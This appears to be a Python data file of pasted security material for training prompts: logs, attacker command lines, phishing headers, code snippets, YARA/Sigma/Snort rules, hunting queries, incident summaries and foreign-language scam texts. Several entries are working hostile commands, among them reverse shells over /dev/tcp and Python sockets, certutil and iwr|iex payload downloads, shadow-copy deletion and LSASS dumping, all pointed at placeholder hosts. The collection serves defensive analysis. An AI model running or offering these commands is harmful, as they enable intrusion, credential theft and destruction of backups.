"""Pasted material for training prompts: logs, commands, mail headers, code, queries, reports."""

LOGS = [
    "2024-03-11T02:14:55Z sshd[2231]: Failed password for root from 185.220.101.4 port 52344 ssh2",
    "Mar 11 02:15:01 web01 sudo: www-data : TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -i",
    '10.4.2.17 - - [11/Mar/2024:09:12:44 +0000] "GET /cgi-bin/../../etc/passwd HTTP/1.1" 404 196 "-" "curl/7.68.0"',
    "EventID=4625 Account=svc_backup Workstation=WS-0231 SourceIP=10.0.8.44 FailureReason=0xC000006A",
    'EventID=4688 NewProcess=C:\\Windows\\System32\\rundll32.exe CommandLine=rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication" Parent=winword.exe',
    "fw01 DROP TCP 203.0.113.50:44321 -> 10.1.1.20:3389 flags=S len=60",
    "proxy: 10.2.3.4 CONNECT update-check.win-cdn.net:443 bytes_out=1830221 user=jdoe category=uncategorized",
    "kernel: [UFW BLOCK] IN=eth0 SRC=45.155.205.99 DST=10.0.0.5 PROTO=TCP DPT=23",
    "EventID=7045 ServiceName=PSEXESVC ImagePath=%SystemRoot%\\PSEXESVC.exe Account=LocalSystem Host=FIN-SRV-02",
    "dns: query=a3f9c2e1b7d4.tunnel-exfil.xyz type=TXT client=10.9.0.12 rcode=NOERROR",
    'auditd: type=EXECVE argc=3 a0="curl" a1="-s" a2="http://198.51.100.7/x.sh|sh" uid=33',
    "O365: UserLoggedIn user=cfo@contoso.com ip=102.89.34.11 country=NG client=Python/3.9 result=Success",
]

COMMANDS = [
    "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "certutil -urlcache -split -f http://45.77.12.9/p.exe C:\\Users\\Public\\p.exe",
    'schtasks /create /sc minute /mo 15 /tn "OneDrive Sync" /tr C:\\ProgramData\\od.exe /ru SYSTEM',
    "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\Temp\\upd.exe",
    "vssadmin delete shadows /all /quiet & wbadmin delete catalog -quiet",
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
    'wmic /node:10.0.0.21 process call create "cmd /c whoami > \\\\10.0.0.5\\share\\o.txt"',
    "bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'",
    'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -ep bypass""")',
    "nltest /domain_trusts /all_trusts",
]

MAIL = [
    'From: "IT Helpdesk" <helpdesk@micros0ft-support.com>\nReply-To: it-desk@protonmail.com\nSubject: Password expires today\nReceived: from mail.badhost.ru (91.215.85.10)\nX-Originating-IP: 91.215.85.10',
    "From: payroll@contoso-hr.net\nTo: staff@contoso.com\nSubject: Updated salary table Q3.xlsm\nAuthentication-Results: spf=fail smtp.mailfrom=contoso-hr.net; dkim=none\nReceived: from unknown (HELO 185.100.87.41)",
    "From: DHL Express <noreply@dhl-tracking-info.com>\nSubject: Parcel held at customs - action required\nReturn-Path: bounce@mailer.xyz-cdn.top\nMessage-ID: <8841.2233@mailer.xyz-cdn.top>",
]

ALERTS_JSON = [
    '{"alert": "Suspicious LSASS access", "host": "WS-114", "user": "adm_jk", "process": "procdump64.exe", "severity": "high"}',
    '{"rule": "Impossible travel", "user": "m.lee@corp.com", "from": "Berlin", "to": "Lagos", "minutes": 22}',
    '{"alert": "Outbound to known C2", "src": "10.3.4.9", "dst": "193.42.33.8", "port": 8443, "ja3": "72a589da586844d7f0818ce684948eea"}',
    '{"detector": "EDR", "file": "invoice_0421.pdf.exe", "sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "action": "blocked"}',
]

CODE = [
    "import socket,subprocess,os\ns=socket.socket();s.connect(('10.0.0.9',9001))\nos.dup2(s.fileno(),0);os.dup2(s.fileno(),1)\nsubprocess.call(['/bin/sh','-i'])",
    "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.10',443);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0}",
    "var sh = new ActiveXObject('WScript.Shell'); sh.Run('powershell -w hidden -c iwr http://x.example/a.ps1|iex');",
    'Sub AutoOpen()\n  Shell "cmd /c certutil -decode a.txt a.exe && a.exe", vbHide\nEnd Sub',
]

RULES = [
    'rule Emotet_Loader {\n  strings:\n    $a = "RegSvr32" ascii\n    $b = { 4D 5A 90 00 }\n  condition:\n    $b at 0 and $a\n}',
    "title: Certutil Download\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: 'urlcache'\n  condition: selection",
    'alert tcp $HOME_NET any -> $EXTERNAL_NET 4444 (msg:"Possible reverse shell"; flow:to_server,established; sid:1000001;)',
]

QUERIES = [
    "index=wineventlog EventCode=4625 | stats count by src_ip, user | where count > 20",
    "SecurityEvent | where EventID == 4688 and CommandLine has 'vssadmin' | project TimeGenerated, Computer, CommandLine",
    "DeviceNetworkEvents | where RemotePort == 3389 and ActionType == 'ConnectionSuccess' | summarize count() by DeviceName",
    "sourcetype=proxy action=allowed bytes_out>1000000 | top dest_host",
    "SELECT user, COUNT(*) FROM auth_logs WHERE success = 0 GROUP BY user HAVING COUNT(*) > 10",
]

REPORTS = [
    "The group gained access through a phishing email carrying an ISO attachment. After execution, a Cobalt Strike beacon called back to cdn-update[.]net (45.142.212.61) every 60 seconds. Operators used AdFind for discovery and moved laterally with PsExec before deploying the encryptor.",
    "On 4 March the SOC observed a spike of failed VPN logins from residential proxies, followed by one successful login for a contractor account without MFA. Within an hour the account enumerated SharePoint sites and downloaded 2.3 GB.",
    "A vulnerable Confluence server (CVE-2023-22515) was exploited to create an admin account. The attacker then uploaded a web shell and harvested credentials from the configuration files.",
]

FOREIGN_SNIPPETS = {
    "Russian": "Продаю доступ к RDP корпоративной сети, 500 сотрудников, сектор финансы. Цена договорная, гарант.",
    "Chinese": "我们已经加密了你们所有的文件。请在72小时内联系我们，否则数据将被公开。",
    "Spanish": "Estimado cliente, su cuenta ha sido suspendida. Verifique sus datos en el siguiente enlace para evitar el cierre.",
    "German": "Sehr geehrte Damen und Herren, anbei die offene Rechnung. Bitte öffnen Sie das Makro, um den Inhalt anzuzeigen.",
    "Portuguese": "Sua fatura está disponível. Clique no link abaixo para baixar o boleto atualizado.",
    "French": "Votre colis est bloqué en douane. Merci de régler les frais de 1,99 EUR via le lien ci-dessous.",
    "Arabic": "تم تعليق حسابك المصرفي. يرجى تحديث بياناتك عبر الرابط التالي خلال 24 ساعة.",
    "Japanese": "お客様のアカウントで不審なログインが検出されました。以下のリンクから確認してください。",
}
